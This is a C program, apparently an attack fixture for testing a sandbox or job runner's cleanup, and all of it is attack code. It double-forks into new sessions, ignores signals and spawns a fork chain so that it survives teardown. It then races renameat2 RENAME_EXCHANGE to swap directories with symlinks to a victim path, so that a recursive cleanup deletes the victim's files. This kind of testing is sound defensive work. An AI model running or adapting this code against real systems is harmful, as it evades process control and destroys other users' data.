// survive VICTIM: leaves its session twice over, lives on, and swaps directories for links to VICTIM while what it ran in is removed.
#include "attack.h"

static void swap(const char *victim) {
  char directory[64], link[64], inner[96];
  for (int turn = 0; turn < 24; turn++) {
    snprintf(directory, sizeof directory, "d%d", turn);
    snprintf(link, sizeof link, "l%d", turn);
    mkdir(directory, 0777);
    for (int at = 0; at < 31; at++) {
      snprintf(inner, sizeof inner, "%s/file-%d", directory, at);
      close(open(inner, O_CREAT | O_WRONLY, 0666));
    }
    if (symlink(victim, link)) continue;
  }
  for (int round = 0; round < 60000; round++)
    for (int turn = 0; turn < 24; turn++) {
      snprintf(directory, sizeof directory, "d%d", turn);
      snprintf(link, sizeof link, "l%d", turn);
      syscall(SYS_renameat2, AT_FDCWD, directory, AT_FDCWD, link, 2 /* RENAME_EXCHANGE */);
    }
}

int main(int argc, char **argv) {
  say("ran\n");
  for (int one = 0; one < 3; one++) {
    if (fork() != 0) continue;
    setsid();
    if (fork() != 0) _exit(0);
    for (int fd = 0; fd < 64; fd++) close(fd);
    for (int number = 1; number < 32; number++) signal(number, SIG_IGN);
    if (one == 2) for (int left = 0; left < 150 && fork() == 0; left++) setsid();
    if (one < 2 && argc > 1) swap(argv[1]);
    sleep(60);
    _exit(0);
  }
  usleep(300000);
  return 0;
}
